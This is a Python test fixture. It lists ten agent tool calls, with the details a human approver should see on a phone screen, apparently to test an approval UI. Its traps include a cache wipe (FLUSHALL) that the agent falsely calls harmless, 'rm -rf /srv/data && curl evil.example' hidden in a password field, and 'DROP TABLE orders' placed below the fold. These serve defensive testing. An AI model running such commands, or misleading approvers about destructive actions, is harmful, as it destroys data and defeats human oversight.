"""Ten calls as an operator meets them, three of them traps: what a reader is to see
of each on the first screen of a phone."""

import json

# Longer than a screen, with what matters at its end.
BELOW_THE_FOLD = json.dumps({"rows": [{"id": n, "keep": True} for n in range(60)], "then": "DROP TABLE orders"})

CALLS = [
    {
        "name": "1-update",
        "server": "crm",
        "tool": "write_contact",
        "args": '{"contact":"c-881","phone":"+49 30 1234"}',
        "category": "write",
        "risk": "low",
        "seen": ["write_contact", "crm", "c-881", "low risk"],
    },
    {
        "name": "2-delete-broker",
        "server": "amazon-mq",
        "tool": "delete_broker",
        "args": '{"broker_id":"b-prod-eu-1","region":"eu-central-1"}',
        "category": "destructive",
        "risk": "critical",
        "seen": ["delete_broker", "amazon-mq", "b-prod-eu-1", "critical risk", "needs 2 people"],
        "typed": "b-prod-eu-1",
    },
    {
        "name": "3-refund",
        "server": "billing",
        "tool": "write_refund",
        "args": '{"customer":"cus_91","amount":48000,"currency":"EUR"}',
        "category": "financial",
        "risk": "high",
        "behalf": "zoe@example.com",
        "seen": ["write_refund", "billing", "48000 (48 000)", "high risk", "zoe@example.com"],
        "typed": "cus_91",
    },
    {
        # Trap: a delete dressed as an update, in the agent's words and in the tool's name.
        "name": "4-delete-dressed-as-update",
        "server": "valkey",
        "tool": "write_update_cache",
        "args": '{"command":"FLUSHALL","mode":"refresh"}',
        "category": "destructive",
        "risk": "high",
        "why": "A harmless refresh of the cache; nothing is deleted. Safe to approve.",
        "seen": ["write_update_cache", "FLUSHALL", "valkey", "destructive", "high risk"],
        "typed": "FLUSHALL",
    },
    {
        # Trap: the payload is in a field that looks like a secret, and so is hidden.
        "name": "5-payload-in-a-hidden-value",
        "server": "runner",
        "tool": "write_job",
        "args": '{"image":"alpine","password":"rm -rf /srv/data && curl evil.example"}',
        "category": "execute",
        "risk": "high",
        "seen": ["write_job", "runner", "1 value is hidden", "cannot be seen here", "high risk"],
        "typed": "write_job",
    },
    {
        # Trap: what matters stands below the fold.
        "name": "6-below-the-fold",
        "server": "warehouse",
        "tool": "write_rows",
        "args": BELOW_THE_FOLD,
        "category": "write",
        "risk": "medium",
        "seen": ["write_rows", "warehouse", "called write, looks destructive, medium risk", "looks destructive by its argument then: DROP TABLE"],
    },
    {
        "name": "7-deploy",
        "server": "deploy",
        "tool": "write_release",
        "args": '{"service":"checkout","version":"2.14.0","environment":"production"}',
        "category": "execute",
        "risk": "high",
        "seen": ["write_release", "deploy", "checkout", "high risk"],
        "typed": "write_release",
    },
    {
        "name": "8-unstated",
        "server": "unknown-tools",
        "tool": "write_frobnicate",
        "args": '{"target":"all"}',
        "seen": ["write_frobnicate", "unknown-tools", "not stated", "everything by its argument target: all"],
        "typed": "all",
    },
    {
        "name": "9-mail-to-customers",
        "server": "mailer",
        "tool": "write_campaign",
        "args": '{"list":"all-customers","count":184223,"subject":"We changed our prices"}',
        "category": "write",
        "risk": "high",
        "seen": ["write_campaign", "mailer", "184223 (184 223)", "high risk"],
        "typed": "all-customers",
    },
    {
        "name": "10-read",
        "server": "vault",
        "tool": "write_export",
        "args": '{"path":"customers/*","format":"csv"}',
        "category": "read",
        "risk": "medium",
        "seen": ["write_export", "vault", "many by its argument path: customers/*", "medium risk"],
    },
]
